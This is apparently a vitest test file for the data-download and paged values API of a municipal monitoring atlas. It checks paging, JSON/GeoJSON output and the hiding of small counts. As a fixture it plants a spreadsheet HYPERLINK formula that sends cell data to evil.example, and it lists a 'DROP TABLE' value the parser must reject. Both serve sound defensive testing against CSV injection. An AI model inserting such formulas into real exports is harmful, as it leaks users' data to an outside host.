import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DatabaseHandle } from '../../db';
import { backends } from '../../db/testing';
import { apiValuesQuery } from '../query';
import { PUBLIC } from '../read';
import { ensureReferenceData } from '../reference';
import { importAndPublishAreas, importAndPublishValues, publishDataset } from '../store';
import { ATLAS_TEST_YEARS, atlasTestValues, gridGeoJson, TEST_AGS, utf8 } from '../testing';
import {
	MAX_PAGE_SIZE,
	publicData,
	valuesCsv,
	valuesGeoJson,
	valuesJsonParts,
	valuesPage,
	type PublicData
} from './exports';

const now = new Date('2026-03-02T09:00:00Z');
const EVIL = '=HYPERLINK("http://evil.example/?d="&A1;"Mehr")';

const query = (params: string) => {
	const parsed = apiValuesQuery(new URLSearchParams(params));
	if (!parsed.success) throw new Error(parsed.error.issues[0].message);
	return parsed.data;
};

describe('the values API query', () => {
	it('asks for the latest year and a page of 1,000 values unless told otherwise', () => {
		expect(query('')).toEqual({ indicators: undefined, year: undefined, limit: 1000, offset: 0 });
	});

	it('takes several indicators, every year and a page', () => {
		expect(query('indicator=sgb2_quote,einwohner&year=all&limit=50&offset=100')).toEqual({
			indicators: ['sgb2_quote', 'einwohner'],
			year: 'all',
			limit: 50,
			offset: 100
		});
	});

	it('refuses pages above the maximum, negative offsets and broken keys', () => {
		for (const bad of [
			`limit=${MAX_PAGE_SIZE + 1}`,
			'limit=0',
			'offset=-1',
			'indicator=DROP TABLE',
			'indicator=',
			'year=1900',
			'year=alle'
		]) {
			expect(apiValuesQuery(new URLSearchParams(bad)).success, bad).toBe(false);
		}
	});
});

describe.each(backends)('public data downloads and API pages on $name', (backend) => {
	let handle: DatabaseHandle;
	let data: PublicData;

	beforeAll(async () => {
		handle = await backend.open();
		await ensureReferenceData(handle.db);
		const areas = gridGeoJson({ columns: 4, rows: 3 }).replace(
			'"Quartier 1"',
			JSON.stringify(EVIL)
		);
		await importAndPublishAreas(handle.db, {
			ags: TEST_AGS,
			fileName: 'q.geojson',
			text: areas,
			now
		});
		await importAndPublishValues(handle.db, {
			ags: TEST_AGS,
			fileName: 'w.csv',
			bytes: utf8(atlasTestValues()),
			now
		});
		await publishDataset(handle.db, { ags: TEST_AGS, now });
		data = (await publicData(handle.db, TEST_AGS, PUBLIC))!;
	});

	afterAll(async () => {
		await handle?.close();
	});

	it('neutralises an area name that a spreadsheet would run as a formula in daten.csv', () => {
		const csv = valuesCsv(data);
		const q01 = csv.split('\r\n').filter((line) => line.includes(';Q01;'));
		expect(q01.length).toBeGreaterThan(0);
		for (const line of q01) {
			expect(line).toContain(`;"'=HYPERLINK(""http://evil.example/?d=""&A1;""Mehr"")";`);
		}
		expect(csv).not.toMatch(/;"?=HYPERLINK/);
	});

	it('keeps the name as it is in GeoJSON and JSON, where no spreadsheet runs it', () => {
		const geojson = JSON.parse(valuesGeoJson(data, 2023));
		expect(geojson.features[0].properties.name).toBe(EVIL);
	});

	it('gives the latest year only by default, in pages, with the total and the next page', () => {
		const page = valuesPage(data, { limit: 100, offset: 0 });
		expect(page.year).toBe(2023);
		expect(page.years).toEqual(ATLAS_TEST_YEARS);
		// 12 areas × 9 indicators in 2023
		expect(page.total).toBe(108);
		expect(page.values).toHaveLength(100);
		expect(new Set(page.values.map((v) => v.year))).toEqual(new Set([2023]));
		const rest = valuesPage(data, { limit: 100, offset: 100 });
		expect(rest.values).toHaveLength(8);
		const all = [...data.rows({ year: 2023 })];
		expect([...page.values, ...rest.values]).toEqual(all);
	});

	it('gives every year or a chosen indicator and year when asked', () => {
		const every = valuesPage(data, { year: 'all', limit: MAX_PAGE_SIZE, offset: 0 });
		expect(every.year).toBeNull();
		expect(every.total).toBe(12 * 9 * 3);
		expect(every.values).toEqual([...data.rows()]);
		const one = valuesPage(data, {
			indicators: ['sgb2_quote'],
			year: 2022,
			limit: 1000,
			offset: 0
		});
		expect(one.total).toBe(12);
		expect(one.values.every((v) => v.indicator === 'sgb2_quote' && v.year === 2022)).toBe(true);
		expect(one.totals.map((t) => [t.indicator, t.year])).toEqual([['sgb2_quote', 2022]]);
	});

	it('never hands out more than the maximum page, whatever it is asked for', () => {
		const page = valuesPage(data, { year: 'all', limit: 10 * MAX_PAGE_SIZE, offset: 0 });
		expect(page.limit).toBe(MAX_PAGE_SIZE);
	});

	it('writes the page as JSON with a link to the next page', () => {
		const url = new URL(`http://x/api/monitoring/municipalities/${TEST_AGS}/values?limit=50`);
		const body = JSON.parse([...valuesJsonParts(data, query('limit=50'), url)].join(''));
		expect(body.page).toEqual({
			offset: 0,
			limit: 50,
			total: 108,
			next: `/api/monitoring/municipalities/${TEST_AGS}/values?limit=50&offset=50&year=2023`
		});
		expect(body.values).toHaveLength(50);
		expect(body.disclosureThreshold).toBe(3);
		const last = JSON.parse(
			[...valuesJsonParts(data, query('limit=50&offset=100&year=2023'), url)].join('')
		);
		expect(last.page.next).toBeNull();
		expect(last.values).toHaveLength(8);
	});

	it('hides in every page exactly what the complete view hides', () => {
		const pages = [0, 1, 2].flatMap(
			(i) => valuesPage(data, { year: 'all', limit: 108, offset: i * 108 }).values
		);
		expect(pages).toEqual([...data.rows()]);
		const hidden = pages.filter((v) => v.suppressed);
		expect(hidden.length).toBeGreaterThan(0);
		expect(hidden.every((v) => v.value === null && v.count === null)).toBe(true);
	});
});
